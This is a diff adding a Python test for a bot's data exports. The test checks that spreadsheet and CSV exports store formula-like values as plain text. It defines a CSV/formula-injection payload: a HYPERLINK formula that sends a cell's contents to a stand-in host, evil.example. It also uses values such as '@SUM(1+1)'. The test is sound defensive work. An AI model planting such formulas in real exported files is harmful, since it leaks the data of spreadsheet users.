@@ -171,3 +171,43 @@ async def test_export_csv_scope_and_audit(harness: Harness, admin):
     assert "Как писать" in joined(await harness.say(admin, "/export everything"))
     text = joined(await harness.say(admin, "/audit 5"))
     assert "export" in text and "role.grant" in text
+
+
+EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Нажмите")'
+
+
+async def test_exports_keep_formulas_as_text(harness: Harness, admin):
+    """A committee, a name or a street typed as a formula stays text in every export."""
+    from storage.models import ElderRegistration, RegistrationStatus
+
+    central, _ = await seed(harness)
+    async with harness.session_factory() as s:
+        s.add(User(id=9003, consent_at=datetime(2025, 3, 1, tzinfo=UTC), district_id=central))
+        s.add(User(id=9004, consent_at=datetime(2025, 3, 1, tzinfo=UTC), full_name="@SUM(1+1)"))
+        await s.flush()
+        registration = ElderRegistration(
+            user_id=9003,
+            tos_role="elder",
+            district_id=central,
+            committee_other=EVIL,
+            street="+7 улица",
+            status=RegistrationStatus.CONFIRMED,
+        )
+        s.add(registration)
+        await s.flush()
+        hostile = report(central, date(2025, 7, 1), participants=4)
+        hostile.registration_id = registration.id
+        s.add(hostile)
+        await s.commit()
+    sent = await harness.say(admin, "/year 2025")
+    [doc] = [r for r in sent if isinstance(r, SendDocument)]
+    book = load_workbook(io.BytesIO(doc.document.data))  # type: ignore[union-attr]
+    cells = {c.value: c.data_type for c in book["По комитетам"]["A"]}
+    assert cells[EVIL] == "s"  # stored as text, never a formula
+    assert not any(c.data_type == "f" for ws in book for row in ws.iter_rows() for c in row)
+    sent = await harness.say(admin, "/export users 2025")
+    [doc] = [r for r in sent if isinstance(r, SendDocument)]
+    data = doc.document.data.decode("utf-8-sig")  # type: ignore[union-attr]
+    cells = [c for row in csv.reader(io.StringIO(data), delimiter=";") for c in row]
+    assert "'@SUM(1+1)" in cells and "@SUM(1+1)" not in cells
+    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
